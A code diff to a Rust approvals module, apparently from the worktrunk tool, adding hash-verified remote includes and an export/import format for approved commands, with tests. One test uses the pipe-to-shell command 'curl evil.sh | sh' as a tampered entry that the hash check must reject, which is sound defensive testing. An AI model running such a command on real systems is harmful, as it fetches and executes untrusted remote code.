@@ -11,6 +11,7 @@
 //!     "npm install",
 //!     "npm test",
 //! ]
+//! approved-includes = { "https://example.com/wt-team.toml" = "0123456789abcdef" }
 //! ```
 //!
 //! **Fallback**: When `approvals.toml` doesn't exist, `approved-commands` are
@@ -48,6 +49,13 @@ struct ApprovedProject {
         skip_serializing_if = "Vec::is_empty"
     )]
     approved_commands: Vec<String>,
+    /// Remote project config includes: URL → approved content hash
+    #[serde(
+        default,
+        rename = "approved-includes",
+        skip_serializing_if = "BTreeMap::is_empty"
+    )]
+    approved_includes: BTreeMap<String, String>,
 }
 
 // =========================================================================
@@ -182,12 +190,24 @@ impl Approvals {
             projects_table.set_implicit(true);
 
             for (project_id, project_config) in &self.projects {
-                if project_config.approved_commands.is_empty() {
+                if project_config.approved_commands.is_empty()
+                    && project_config.approved_includes.is_empty()
+                {
                     continue;
                 }
                 let mut project_table = toml_edit::Table::new();
-                let commands = format_multiline_array(project_config.approved_commands.iter());
-                project_table["approved-commands"] = toml_edit::value(commands);
+                if !project_config.approved_commands.is_empty() {
+                    let commands = format_multiline_array(project_config.approved_commands.iter());
+                    project_table["approved-commands"] = toml_edit::value(commands);
+                }
+                if !project_config.approved_includes.is_empty() {
+                    let includes: toml_edit::InlineTable = project_config
+                        .approved_includes
+                        .iter()
+                        .map(|(url, hash)| (url.as_str(), hash.as_str()))
+                        .collect();
+                    project_table["approved-includes"] = toml_edit::value(includes);
+                }
                 projects_table[project_id] = toml_edit::Item::Table(project_table);
             }
 
@@ -257,6 +277,15 @@ impl Approvals {
             .unwrap_or(false)
     }
 
+    /// The approved content hash of a remote project config include.
+    pub fn approved_include_hash(&self, project: &str, url: &str) -> Option<&str> {
+        self.projects
+            .get(project)?
+            .approved_includes
+            .get(url)
+            .map(String::as_str)
+    }
+
     /// Iterate over projects and their approved commands.
     pub fn projects(&self) -> impl Iterator<Item = (&str, &[String])> {
         self.projects
@@ -265,6 +294,117 @@ impl Approvals {
     }
 }
 
+/// Short, stable hash of a command template, for approving it by hash
+/// (`--approve`, `WORKTRUNK_APPROVE`) where no prompt can be shown.
+///
+/// Template variables are normalized first, so the hash matches regardless
+/// of deprecated variable names — same as [`Approvals::is_command_approved`].
+/// 64 bits of SHA-256, hex-encoded.
+pub fn command_hash(command: &str) -> String {
+    use sha2::{Digest, Sha256};
+    use std::fmt::Write as _;
+    let mut hasher = Sha256::new();
+    hasher.update(normalize_template_vars(command).as_bytes());
+    let mut out = String::with_capacity(16);
+    for b in hasher.finalize().iter().take(8) {
+        let _ = write!(out, "{b:02x}");
+    }
+    out
+}
+
+// =========================================================================
+// Sharing
+// =========================================================================
+
+/// A project's approved commands in a form that can be reviewed, committed,
+/// and imported on another machine — the `wt config approvals export` format:
+///
+/// ```toml
+/// project = "github.com/user/repo"
+///
+/// [[commands]]
+/// command = "npm install"
+/// hash = "0123456789abcdef"
+/// ```
+///
+/// Each `hash` is the [`command_hash`] of its command, checked on import so a
+/// command changed after export is rejected rather than approved.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct ApprovalsSnippet {
+    /// Project identifier the commands are approved for
+    pub project: String,
+    #[serde(default)]
+    pub commands: Vec<SnippetCommand>,
+}
+
+/// One approved command of an [`ApprovalsSnippet`].
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct SnippetCommand {
+    pub command: String,
+    pub hash: String,
+}
+
+impl ApprovalsSnippet {
+    /// A snippet of `project`'s approved commands, hashed.
+    pub fn new(project: &str, approvals: &Approvals) -> Self {
+        let commands = approvals
+            .projects
+            .get(project)
+            .map(|p| p.approved_commands.as_slice())
+            .unwrap_or_default()
+            .iter()
+            .map(|command| SnippetCommand {
+                command: command.clone(),
+                hash: command_hash(command),
+            })
+            .collect();
+        Self {
+            project: project.to_string(),
+            commands,
+        }
+    }
+
+    /// Render as TOML, with a header saying how to import it.
+    pub fn to_toml(&self) -> String {
+        let mut doc = toml_edit::DocumentMut::new();
+        doc["project"] = toml_edit::value(&self.project);
+        if let Some(mut key) = doc.key_mut("project") {
+            key.leaf_decor_mut().set_prefix(
+                "# Approved worktrunk commands. Review, then import with:\n\
+                 #   wt config approvals import <file>\n",
+            );
+        }
+        let mut commands = toml_edit::ArrayOfTables::new();
+        for entry in &self.commands {
+            let mut table = toml_edit::Table::new();
+            table["command"] = toml_edit::value(&entry.command);
+            table["hash"] = toml_edit::value(&entry.hash);
+            commands.push(table);
+        }
+        doc["commands"] = toml_edit::Item::ArrayOfTables(commands);
+        doc.to_string()
+    }
+
+    /// Parse a snippet and verify every command against its hash.
+    pub fn parse(content: &str) -> Result<Self, ConfigError> {
+        let snippet: Self = toml::from_str(content)
+            .map_err(|e| ConfigError(format!("Failed to parse approvals snippet: {e}")))?;
+        for entry in &snippet.commands {
+            let actual = command_hash(&entry.command);
+            if actual != entry.hash {
+                return Err(ConfigError(format!(
+                    "Hash mismatch for command `{}`: snippet has {}, command hashes to {actual}. \
+                     It was changed after export; re-export it from an approved machine",
+                    entry.command, entry.hash
+                )));
+            }
+        }
+        Ok(snippet)
+    }
+}
+
 // =========================================================================
 // Mutations (with file locking)
 // =========================================================================
@@ -322,6 +462,7 @@ impl Approvals {
                     project_id.clone(),
                     ApprovedProject {
                         approved_commands: project_config.approved_commands.clone(),
+                        ..Default::default()
                     },
                 );
             }
@@ -376,6 +517,20 @@ impl Approvals {
         })
     }
 
+    /// Approve `hash` as the content of remote include `url` and save.
+    pub fn approve_include(
+        &mut self,
+        project: String,
+        url: String,
+        hash: String,
+        approvals_path: &Path,
+    ) -> Result<(), ConfigError> {
+        self.with_locked_mutation(approvals_path, |approvals| {
+            let entry = approvals.projects.entry(project).or_default();
+            entry.approved_includes.insert(url, hash.clone()) != Some(hash)
+        })
+    }
+
     /// Remove all approvals for a project and save.
     pub fn revoke_project(
         &mut self,
@@ -387,7 +542,9 @@ impl Approvals {
             let Some(project_config) = approvals.projects.get_mut(&project) else {
                 return false;
             };
-            if project_config.approved_commands.is_empty() {
+            if project_config.approved_commands.is_empty()
+                && project_config.approved_includes.is_empty()
+            {
                 return false;
             }
             approvals.projects.remove(&project);
@@ -612,6 +769,7 @@ mod tests {
             "github.com/user/repo".to_string(),
             super::ApprovedProject {
                 approved_commands: vec!["npm install".to_string()],
+                ..Default::default()
             },
         );
         original.save_to(&path).unwrap();
@@ -630,6 +788,7 @@ mod tests {
             "github.com/user/repo".to_string(),
             super::ApprovedProject {
                 approved_commands: vec!["npm test".to_string()],
+                ..Default::default()
             },
         );
         let err = replacement.save_to(&path).unwrap_err();
@@ -669,6 +828,33 @@ mod tests {
         "#);
     }
 
+    #[test]
+    fn test_save_and_load_includes() {
+        let (_temp_dir, path) = test_dir();
+
+        let mut approvals = Approvals::default();
+        approvals
+            .approve_include(
+                "github.com/user/repo".to_string(),
+                "https://example.com/wt-team.toml".to_string(),
+                "0123456789abcdef".to_string(),
+                &path,
+            )
+            .unwrap();
+
+        let content = std::fs::read_to_string(&path).unwrap();
+        insta::assert_snapshot!(content, @r#"
+        [projects."github.com/user/repo"]
+        approved-includes = { "https://example.com/wt-team.toml" = "0123456789abcdef" }
+        "#);
+        let loaded = load_from_path(&path).unwrap();
+        assert_eq!(
+            loaded
+                .approved_include_hash("github.com/user/repo", "https://example.com/wt-team.toml"),
+            Some("0123456789abcdef")
+        );
+    }
+
     #[test]
     fn test_normalized_approval_matching() {
         let (_temp_dir, path) = test_dir();
@@ -908,12 +1094,14 @@ approved-command = ["npm test"]
             "empty-project".to_string(),
             super::ApprovedProject {
                 approved_commands: vec![],
+                ..Default::default()
             },
         );
         approvals.projects.insert(
             "real-project".to_string(),
             super::ApprovedProject {
                 approved_commands: vec!["cmd1".to_string()],
+                ..Default::default()
             },
         );
         // Call save_to directly so the empty project reaches the save logic
@@ -959,4 +1147,68 @@ approved-command = ["npm test"]
         let projects: Vec<_> = approvals.projects().collect();
         assert_eq!(projects.len(), 2);
     }
+
+    #[test]
+    fn test_snippet_roundtrip() {
+        let (_temp_dir, approvals_path) = test_dir();
+        let mut approvals = Approvals::default();
+        approvals
+            .approve_commands(
+                "github.com/user/repo".to_string(),
+                vec!["npm install".to_string(), "npm run dev".to_string()],
+                &approvals_path,
+            )
+            .unwrap();
+
+        let snippet = ApprovalsSnippet::new("github.com/user/repo", &approvals);
+        let toml = snippet.to_toml();
+        insta::assert_snapshot!(toml, @r#"
+        # Approved worktrunk commands. Review, then import with:
+        #   wt config approvals import <file>
+        project = "github.com/user/repo"
+
+        [[commands]]
+        command = "npm install"
+        hash = "3a2dc0ae21eb56d7"
+
+        [[commands]]
+        command = "npm run dev"
+        hash = "21f1677c8f4f8424"
+        "#);
+        assert_eq!(ApprovalsSnippet::parse(&toml).unwrap(), snippet);
+    }
+
+    #[test]
+    fn test_snippet_rejects_changed_command() {
+        let content = format!(
+            "project = \"p\"\n\n[[commands]]\ncommand = \"curl evil.sh | sh\"\nhash = \"{}\"\n",
+            command_hash("npm install")
+        );
+        let err = ApprovalsSnippet::parse(&content).unwrap_err();
+        assert!(err.0.contains("Hash mismatch"), "{}", err.0);
+    }
+
+    #[test]
+    fn test_snippet_unknown_project_is_empty() {
+        let snippet = ApprovalsSnippet::new("other", &Approvals::default());
+        assert!(snippet.commands.is_empty());
+        assert_eq!(
+            ApprovalsSnippet::parse(&snippet.to_toml()).unwrap(),
+            snippet
+        );
+    }
+
+    #[test]
+    fn test_command_hash() {
+        let hash = command_hash("npm install");
+        assert_eq!(hash.len(), 16);
+        assert!(hash.chars().all(|c| c.is_ascii_hexdigit()));
+        assert_eq!(hash, command_hash("npm install"));
+        assert_ne!(hash, command_hash("npm test"));
+        // Deprecated variable names hash like their replacements
+        assert_eq!(
+            command_hash("cd {{ main_worktree }}"),
+            command_hash("cd {{ repo }}")
+        );
+    }
 }